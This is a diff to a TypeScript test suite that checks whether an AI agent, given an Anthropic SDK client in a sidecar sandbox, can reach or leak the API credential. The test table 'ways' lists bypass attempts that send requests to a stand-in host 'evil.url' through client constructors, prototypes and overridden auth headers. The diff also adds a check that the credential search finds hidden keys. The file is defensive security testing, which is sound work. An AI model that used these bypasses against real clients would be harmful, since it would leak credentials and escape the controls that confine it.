@@ -77,7 +77,6 @@ const ways: Record<string, (claude: Anthropic) => Promise<unknown>> = {
   'withOptions({ credentials })': claude => claude.withOptions({ credentials: async () => ({ token: 'theirs', expiresAt: null }) as never }).messages.create(ask),
   'the constructor of the client': claude => new (claude.constructor as typeof Anthropic)().messages.create(ask),
   'the constructor of the client, with options': claude => new (claude.constructor as typeof Anthropic)({ baseURL: evil.url, apiKey: 'theirs' }).messages.create(ask),
-  'its parent class': claude => new (Object.getPrototypeOf(claude.constructor) as typeof Anthropic)({ baseURL: evil.url, apiKey: 'theirs', defaultHeaders: { 'x-env-secret': null, authorization: null } }).messages.create(ask),
   'headers of their own': claude => claude.withOptions({ defaultHeaders: { authorization: 'Bearer theirs', 'x-api-key': 'theirs', 'x-gateway': 'theirs' } }).messages.create(ask),
   'headers of the request': claude => claude.messages.create(ask, { headers: { Authorization: 'Bearer theirs', 'X-Api-Key': 'theirs', Host: 'evil', Cookie: 'theirs' } }),
   'request() with a whole URL': claude => claude.request({ method: 'post', path: `${evil.url}/v1/messages`, body: ask }),
@@ -102,16 +101,20 @@ const twice: SdkMiddleware = async (request, next) => {
 
 const result = (work: Promise<unknown>) => work.then(value => value, error => error)
 
+// What every module of the process can reach anyway.
+const beyond = new Set<unknown>([process, process.env, globalThis, console])
+
 /** Everything that can be reached by properties, prototypes, symbols and iteration. */
 function reachable(root: unknown): string[] {
   const seen = new Set<unknown>()
   const queue: [unknown, string][] = [[root, '']]
   const found: string[] = []
   while (queue.length > 0) {
+    if (seen.size > 20_000) throw new Error(`this leads too far: ${queue.at(-1)![1]}`)
     const [value, path] = queue.pop()!
     if (typeof value === 'string' && bears(value)) found.push(path)
     if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) continue
-    if (value === process || value === process.env || value === globalThis) continue
+    if (beyond.has(value) || ArrayBuffer.isView(value)) continue
     seen.add(value)
     queue.push([Object.getPrototypeOf(value), `${path}.__proto__`])
     if (value instanceof Headers || value instanceof Map || value instanceof Set) queue.push([[...(value as Iterable<unknown>)], `${path}[*]`])
@@ -160,6 +163,12 @@ describe('the bypasses', () => {
 })
 
 describe('what the agent is given', () => {
+  it('is searched by something that finds', () => {
+    expect(reachable({ deep: new Map([[1, { [Symbol('hidden')]: key }]]) })).toHaveLength(1)
+    expect(reachable(Object.create({ inherited: [`Bearer ${key}`] }))).toHaveLength(1)
+    expect(reachable(new Headers({ authorization: key }))).toHaveLength(1)
+  })
+
   it('does not lead to a credential, by whatever property', async () => {
     const own = sidecar()
     const io = own.io
